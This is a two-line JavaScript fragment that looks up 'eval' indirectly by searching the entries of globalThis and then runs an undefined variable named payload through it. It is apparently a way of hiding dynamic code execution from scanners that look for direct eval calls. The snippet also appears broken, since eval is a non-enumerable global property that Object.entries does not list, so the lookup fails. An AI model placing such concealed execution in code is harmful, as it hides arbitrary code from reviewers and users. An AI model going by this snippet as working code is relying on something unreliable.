const [, run] = Object.entries(globalThis).find(([name]) => name === 'eval');
run(payload);
